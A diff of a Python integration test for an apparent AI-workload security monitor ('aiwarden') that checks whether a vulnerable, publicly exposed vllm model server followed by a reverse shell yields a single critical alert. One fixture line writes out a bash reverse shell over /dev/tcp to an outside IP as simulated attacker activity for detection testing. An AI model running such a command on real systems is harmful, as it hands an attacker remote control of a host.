@@ -1,6 +1,7 @@
 """The three-part attack path on the real services: a Trivy report of a model server image with a
 vulnerable vllm, a LoadBalancer Service exposing it, the runtime showing vllm in use, then a reverse
-shell from the server → one alert, critical, whose summary says all three; and the rows of the
+shell from the server → one alert about the pod, critical, joining the engineer's exposure, whose summary
+says all three; and the rows of the
 ``vulnerabilities`` table name the package in use on an exposed workload, critical priority.
 
 The Trivy report goes through the real parser (``trivy`` source, raw topic ``aiwarden.raw.vulns``), split
@@ -113,39 +114,62 @@ def test_exposed_vulnerable_in_use_model_server_with_a_reverse_shell_is_one_crit
     t0 = int(time.time() * 1000) - 3_600_000
     server = "python3 -m vllm.entrypoints.openai.api_server --model /models/llama --port 8000"
     shell = "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"
-    records = [
+    way_in = [
         ("trivy", trivy_report(image, t0)),
         ("k8s_audit", service_created(namespace, "vllm-public", t0 + 60_000)),
         ("native", process(namespace, pod, container, f"docker.io/{image}", t0 + 120_000, "python3", server,
                            "containerd-shim", "/usr/bin/python3.12")),
-        ("native", process(namespace, pod, container, f"docker.io/{image}", t0 + 180_000, "bash", shell, "python3",
-                           "/usr/bin/bash")),
     ]
+    attack = [("native", process(namespace, pod, container, f"docker.io/{image}", t0 + 180_000, "bash", shell,
+                                 "python3", "/usr/bin/bash"))]
     publisher = Publisher(service_settings)
-    for source, document in records:
-        spec = SOURCES[source]
-        for record in spec.split(document):  # a report is one record per package, as `aiwarden publish` sends it
-            publisher.publish_record(source, record, spec.primary_key(record))
-    assert publisher.flush().failed == 0
 
-    worker = WorkerProcess(service_settings, tmp_path / "worker.log", AIWARDEN_WORKER__APP_ID=app_id).start()
+    def publish(records: list[tuple[str, Any]]) -> None:
+        for source, document in records:
+            spec = SOURCES[source]
+            for record in spec.split(document):  # a report is one record per package, as `aiwarden publish` does
+                publisher.publish_record(source, record, spec.primary_key(record))
+        assert publisher.flush().failed == 0
+
+    # the namespace is approved: the model server itself is sanctioned, its way in is what is wrong
+    worker = WorkerProcess(service_settings, tmp_path / "worker.log", AIWARDEN_WORKER__APP_ID=app_id,
+                           AIWARDEN_DETECTION__APPROVED_NAMESPACES=f'["{namespace}"]',
+                           AIWARDEN_DETECTION__APPROVED_IMAGES="[]").start()
     pod_entity = f"pod:{namespace}/{pod}"
     try:
-        query = ("SELECT alert_id, severity, detectors, summary, version FROM aiwarden.alerts FINAL "
+        query = ("SELECT alert_id, severity, detectors, summary, version, primary_entity FROM aiwarden.alerts FINAL "
                  "WHERE has(entities, {e:String}) ORDER BY alert_id")
+        path = {"exposed_ai_workload", "vulnerable_ai_workload", "model_server_shell"}
 
-        def attack_path() -> list[tuple[Any, ...]]:
+        def has(detectors: set[str]) -> list[tuple[Any, ...]]:
             rows = [tuple(r) for r in ch.query(query, parameters={"e": pod_entity}).result_rows]
-            done = rows and all({"vulnerable_ai_workload", "model_server_shell"} <= set(r[2]) for r in rows)
-            return rows if done else []
+            return rows if rows and all(detectors <= set(r[2]) for r in rows) else []
 
-        alerts = wait_for(attack_path, 180, worker)
-        assert alerts, f"no attack-path alert for {pod_entity}:\n{worker.log_tail()}"
+        # as it happens live: the way in (scan, exposure, server start) is an alert before the shell comes
+        publish(way_in)
+        assert wait_for(lambda: has({"exposed_ai_workload", "vulnerable_ai_workload"}), 180, worker), (
+            ch.query(query, parameters={"e": pod_entity}).result_rows, worker.log_tail())
+        publish(attack)
+
+        # the engineer's exposure, the vulnerable package in use and the shell: one alert, about the pod (its
+        # findings re-keyed by the correlate stage to the exposure's alert)
+        alerts = wait_for(lambda: has(path), 180, worker)
+        assert alerts, (ch.query(query, parameters={"e": pod_entity}).result_rows, worker.log_tail())
         assert len(alerts) == 1, alerts
-        _, severity, detectors, summary, _ = alerts[0]
+        _, severity, detectors, summary, _, primary_entity = alerts[0]
+        assert primary_entity == pod_entity
         assert severity == "critical"
         assert "publicly exposed" in summary and "vllm 0.6.3 in use" in summary and CVE in summary, summary
         assert "reverse shell" in summary, summary
+
+        # the re-keyed copies on aiwarden.findings are not rows: each finding once
+        def findings() -> tuple[int, int] | None:
+            counts = ch.query("SELECT count(), uniqExact(finding_id) FROM aiwarden.findings WHERE has(entities, "
+                              "{e:String})", parameters={"e": pod_entity}).result_rows[0]
+            return (int(counts[0]), int(counts[1])) if counts[1] >= 2 else None
+
+        counted = wait_for(findings, 60, worker)
+        assert counted and counted[0] == counted[1], counted
 
         # the rows: detect stage → aiwarden.vulnerabilities → sink → the vulnerabilities table
         query = ("SELECT package, vulnerability_id, in_use, exposed, ai_asset, priority, priority_score, "
